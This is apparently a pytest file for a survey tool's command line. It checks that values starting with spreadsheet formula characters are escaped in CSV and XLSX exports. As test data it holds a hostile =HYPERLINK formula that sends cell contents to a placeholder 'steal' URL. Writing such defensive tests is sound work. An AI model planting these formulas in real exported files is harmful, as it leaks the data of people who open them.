"""Spreadsheet formula injection: =HYPERLINK(...) in a call list or an answer is stored as typed and
never becomes a formula in any CSV or XLSX the tool writes."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from survey_tui.cli import cli
from survey_tui.model import Answer, load_questionnaire
from survey_tui.store import Store
from tests.conftest import ROOT

CORPUS = ROOT / "tests" / "bad_input" / "call_lists" / "formula_injection.csv"
HOSTILE_ANSWER = '=HYPERLINK("http://example.invalid/steal?d="&A1,"点此查看")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def survey(tmp_path: Path) -> str:
    """The corpus call list imported, each customer interviewed with hostile text in the answers."""
    db = str(tmp_path / "survey.db")
    result = CliRunner().invoke(cli, ["--db", db, "sample", "import", str(CORPUS)])
    assert result.exit_code == 0, result.output
    questionnaire = load_questionnaire(ROOT / "questionnaires" / "disconnect_phone.yaml")
    with Store.open(db) as store:
        questionnaire_id = store.register_questionnaire(questionnaire)
        while (case := store.claim_next_case("a1")) is not None:
            interview = store.start_interview(questionnaire_id, "a1", case_id=case.id)
            answers = {
                "q1_operator": Answer("other_isp", other_text="@小区宽带"),
                "q2_competitor_reason": Answer("+便宜"),
                "q3_leave_reason": Answer(HOSTILE_ANSWER),
                "q4_retention_call": Answer("no"),
                "q5_factors": Answer(["price"]),
                "q6_package_pref": Answer("single"),
            }
            saved = {qid: store.save_answer(interview, qid, answer).id for qid, answer in answers.items()}
            store.save_code(saved["q3_leave_reason"], ["price"], source="human", coder="r1")  # for the cross-tabs
            store.finish_interview(interview, "complete")
            store.record_attempt(
                case.id, "a1", "complete", aapor_code="1.1", started_at=datetime.now(UTC), note="-回访备注", final=True
            )
        # Stored verbatim: the database keeps what was said and imported.
        [first, *_] = store.list_interviews()
        assert store.answers_for(first.id)["q3_leave_reason"].answer.value == HOSTILE_ANSWER
    return db


def formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_csv_export_turns_every_formula_into_text(survey: str, tmp_path: Path) -> None:
    output = tmp_path / "raw.csv"
    result = CliRunner().invoke(cli, ["export", "--db", survey, "--format", "csv", "--output", str(output)])
    assert result.exit_code == 0, result.output
    for path in (output, tmp_path / "raw_call_attempts.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if formula_like(cell)], path.name
    with output.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["q3_leave_reason"] for row in rows} == {"'" + HOSTILE_ANSWER}
    assert {row["q2_competitor_reason"] for row in rows} == {"'+便宜"}
    assert {row["q1_operator_other"] for row in rows} == {"'@小区宽带"}
    assert {row["branch"] for row in rows} == {"大祥支局", "'=1+1", "双清支局"}
    assert {row["package"] for row in rows} == {"融合套餐129元", "'@SUM(A1:A9)", "'=2*3"}


def test_xlsx_export_keeps_the_text_and_marks_it_as_text(survey: str, tmp_path: Path) -> None:
    output = tmp_path / "survey.xlsx"
    result = CliRunner().invoke(cli, ["export", "--db", survey, "--format", "xlsx", "--output", str(output)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(output)
    hostile = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                    hostile += 1
    sheet = book["interviews"]
    header = [cell.value for cell in sheet[1]]
    answers = [row[header.index("q3_leave_reason")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert answers == [HOSTILE_ANSWER] * 3  # the researcher reads exactly what was said
    assert hostile >= 3 * 4 + 3  # answers, "other" texts, branches and packages, notes


def test_the_queue_as_csv_is_safe_too(survey: str) -> None:
    result = CliRunner().invoke(cli, ["--db", survey, "case", "list", "--format", "csv"])
    assert result.exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(result.output.lstrip("\ufeff"))) for cell in row]
    assert '\'=HYPERLINK("http://example.invalid/?x="&A1,"点我领话费")' in cells
    assert not [cell for cell in cells if formula_like(cell)]


def test_tally_csv_neutralises_branch_names(survey: str) -> None:
    result = CliRunner().invoke(cli, ["tally", "--db", survey, "--table", "reasons_by_branch", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert "'=1+1" in result.output
    lines = [line for line in result.output.splitlines() if line and not line.startswith("#")]
    cells = [cell for row in csv.reader(lines) for cell in row]
    assert not [cell for cell in cells if formula_like(cell)]
